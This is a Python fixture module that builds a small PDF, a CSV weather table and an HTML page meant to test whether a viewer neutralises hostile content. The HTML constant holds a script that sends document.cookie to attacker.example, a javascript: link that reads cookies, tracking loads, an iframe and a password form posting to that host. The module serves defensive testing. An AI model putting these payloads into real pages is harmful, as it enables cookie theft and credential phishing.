"""Tiny deterministic documents generated in code: a PDF of a few pages, a CSV table and an HTML page.

The HTML page carries what a hostile server might send (a script, an inline handler, a frame, a form,
a remote image, a ``javascript:`` link) so the window can show that each is neutralised.
"""

from __future__ import annotations


def _pdf_text(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def make_pdf(pages: list[list[str]] | None = None) -> bytes:
    """Return a valid PDF 1.4 file: one A5 page per entry of ``pages``, each line in Helvetica.

    Args:
        pages: The lines of each page (ASCII); two short pages when omitted.

    Returns:
        The complete PDF file (objects, cross-reference table and trailer with exact offsets).
    """
    pages = pages or [
        ["Agent Workbench demo report", "", "Page one: a PDF made in code by the demo server."],
        ["Page two", "", "Use the arrows to move between pages, and zoom."],
    ]
    count = len(pages)
    font_id = 3 + 2 * count
    objects: list[bytes] = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        (
            "<< /Type /Pages /Kids [" + " ".join(f"{3 + 2 * i} 0 R" for i in range(count)) + f"] /Count {count} >>"
        ).encode(),
    ]
    for i, lines in enumerate(pages):
        content = "BT /F1 14 Tf 40 540 Td 18 TL " + " ".join(f"({_pdf_text(line)}) '" for line in lines) + " ET"
        stream = content.encode("latin-1")
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Contents {4 + 2 * i} 0 R "
            f"/Resources << /Font << /F1 {font_id} 0 R >> >> >>".encode()
        )
        objects.append(f"<< /Length {len(stream)} >>\nstream\n".encode() + stream + b"\nendstream")
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def make_csv(rows: int = 12) -> str:
    """Return a CSV table with a header row: a fixed list of cities and figures."""
    cities = [
        "Lisbon",
        "Oslo",
        "Nairobi",
        "Lima",
        "Osaka",
        "Tunis",
        "Perth",
        "Quito",
        "Riga",
        "Hanoi",
        "Accra",
        "Cusco",
    ]
    lines = ["city,day,temp_c,rain_mm,note"]
    for i in range(rows):
        city = cities[i % len(cities)]
        note = '"dry, windy"' if i % 4 == 0 else "calm"
        lines.append(f"{city},2026-05-{1 + i % 28:02d},{10 + (i * 7) % 19}.{i % 10},{(i * 3) % 11},{note}")
    return "\n".join(lines) + "\n"


HTML_PAGE = """<!doctype html>
<html>
<head>
  <title>Demo HTML result</title>
  <script>document.title = "pwned"; fetch("https://attacker.example/steal?c=" + document.cookie);</script>
  <link rel="stylesheet" href="https://attacker.example/style.css">
  <style>body { background: url("https://attacker.example/track.png"); }</style>
</head>
<body onload="alert('hi')">
  <h1>Forecast summary</h1>
  <p>This page came from the demo server. The window shows it <b>sanitised</b>: no scripts, no remote
  loads, no forms. The items below each try something a page must not do here.</p>
  <ul>
    <li>A safe link: <a href="https://example.com/forecast">example.com/forecast</a> (asks before opening)</li>
    <li>A script link: <a href="javascript:alert(document.cookie)">click me</a> (shown as plain text)</li>
    <li>A remote image: <img src="https://attacker.example/pixel.gif" alt="tracking pixel" width="1"></li>
  </ul>
  <iframe src="https://attacker.example/frame.html">frame content</iframe>
  <form action="https://attacker.example/login" method="post">
    <input name="password" type="password"><button type="submit">Log in</button>
  </form>
  <table>
    <tr><th>City</th><th>Temp</th></tr>
    <tr><td>Lisbon</td><td>18 °C</td></tr>
    <tr><td>Oslo</td><td>7 °C</td></tr>
  </table>
</body>
</html>
"""
"""A page with a script, a stylesheet, an inline handler, a frame, a form, a remote image and a ``javascript:`` link."""
